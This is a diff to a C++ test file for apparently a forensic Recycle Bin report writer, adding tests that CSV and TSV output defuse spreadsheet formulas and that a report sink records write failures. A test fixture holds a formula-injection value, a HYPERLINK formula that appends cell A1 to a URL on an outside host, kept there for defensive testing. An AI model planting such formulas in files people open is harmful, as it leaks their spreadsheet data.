@@ -2,7 +2,9 @@
 
 #include <gtest/gtest.h>
 
+#include <cerrno>
 #include <cstdint>
+#include <cstring>
 #include <string>
 #include <vector>
 
@@ -394,6 +396,70 @@ TEST_F(Writers, JsonLines) {
                 "\"companion_created\":null,\"warnings\":[]}\n");
 }
 
+// Names an attacker chose, each starting with what a spreadsheet takes for
+// a formula.
+struct FormulaRecords {
+  std::string path = le16(u"=HYPERLINK(\"http://x/?\"&A1,\"a\")\\b.@c");
+  std::string separators = le16(u"+1\u2028-2\u2029.ext");
+  RecycleRecord hyperlink() const {
+    RecycleRecord r;
+    r.directory = "-case/@S-1-5-21-1-2-3-1001/";
+    r.file_name = "$IHYPER";
+    r.opened = true;
+    r.format = RecordFormat::kV1;
+    r.has_fields = true;
+    r.has_size = true;
+    r.size = -5;  // a number: never changed
+    r.path_utf16 = bytes(path);
+    r.path_units = path.size() / 2;
+    r.companion.kind = CompanionKind::kFile;
+    r.companion.size = 3;
+    return r;
+  }
+  RecycleRecord tab_and_cr(const char* directory) const {
+    RecycleRecord r = hyperlink();
+    r.directory = directory;
+    r.path_utf16 = bytes(separators);
+    r.path_units = separators.size() / 2;
+    return r;
+  }
+};
+
+TEST_F(Writers, CsvAndTsvDefuseFormulas) {
+  const FormulaRecords f;
+  const auto rows = parse_csv(
+      run(ReportFormat::kCsv, {f.hyperlink(), f.tab_and_cr("\t/"), f.tab_and_cr("\r/")}, false));
+  ASSERT_EQ(rows.size(), 3u);
+  EXPECT_EQ(rows[0][0], "'-case/@S-1-5-21-1-2-3-1001/$IHYPER");
+  EXPECT_EQ(rows[0][3], "-5");
+  EXPECT_EQ(rows[0][5], "'=HYPERLINK(\"http://x/?\"&A1,\"a\")\\b.@c");
+  EXPECT_EQ(rows[0][6], "'@c");
+  EXPECT_EQ(rows[0][8], "3");
+  EXPECT_EQ(rows[1][0], "'\t/$IHYPER");
+  EXPECT_EQ(rows[1][5], "'+1\xE2\x80\xA8-2\xE2\x80\xA9.ext");
+  EXPECT_EQ(rows[1][6], "ext");
+  EXPECT_EQ(rows[2][0], "'\r/$IHYPER");
+}
+
+TEST_F(Writers, TsvDefusesFormulasBeforeEscaping) {
+  const FormulaRecords f;
+  const std::string out = run(ReportFormat::kTsv, {f.tab_and_cr("\t/")}, false);
+  EXPECT_EQ(out, "'\\t/$IHYPER\t\tv1\t-5\t\t'+1\xE2\x80\xA8-2\xE2\x80\xA9.ext\text\tfile\t3\t\t\t\t\n");
+}
+
+TEST_F(Writers, JsonKeepsFormulasAndEscapesLineSeparators) {
+  const FormulaRecords f;
+  const std::string out = run(ReportFormat::kJsonLines, {f.hyperlink(), f.tab_and_cr("\t/")});
+  EXPECT_NE(out.find("\"source\":\"-case/@S-1-5-21-1-2-3-1001/$IHYPER\""), std::string::npos) << out;
+  EXPECT_NE(out.find("\"size\":-5,"), std::string::npos) << out;
+  EXPECT_NE(out.find("\"original_path\":\"=HYPERLINK(\\\"http://x/?\\\"&A1,\\\"a\\\")\\\\b.@c\","
+                     "\"extension\":\"@c\""),
+            std::string::npos)
+      << out;
+  EXPECT_NE(out.find("\"original_path\":\"+1\\u2028-2\\u2029.ext\""), std::string::npos) << out;
+  EXPECT_EQ(out.find("\xE2\x80\xA8"), std::string::npos) << out;
+}
+
 TEST_F(Writers, JsonNumbersAndWarningArrays) {
   RecycleRecord negative = rec_.with_companion();
   negative.size = -9223372036854755328LL;
@@ -477,6 +543,25 @@ TEST_F(Writers, FailedWriteIsReported) {
   ASSERT_NE(writer, nullptr);
   EXPECT_FALSE(writer->write_header());
   EXPECT_FALSE(writer->write_record(rec_.cjk()));
+}
+
+TEST_F(Writers, TheSinkNamesTheFirstDestinationThatFailed) {
+  // The output file fails (a full device), standard output takes the bytes.
+  const FileHandle full = open_output_device("/dev/full", false);
+  ASSERT_NE(full, kInvalidHandle);
+  ReportSink sink(handle_);
+  sink.set_copy(full);
+  EXPECT_TRUE(sink.failure_reason().empty());
+  EXPECT_FALSE(sink.write("a\n", 2));
+  EXPECT_EQ(sink.failed(), full);
+  EXPECT_EQ(sink.failure_reason(), strerror(ENOSPC));
+  EXPECT_EQ(tree_.read("out"), "a\n");
+  // Later failures keep the first one.
+  ReportSink both(full);
+  both.set_copy(kInvalidHandle - 1);
+  EXPECT_FALSE(both.write("b", 1));
+  EXPECT_EQ(both.failed(), full);
+  close_file(full);
 }
 
 }  // namespace
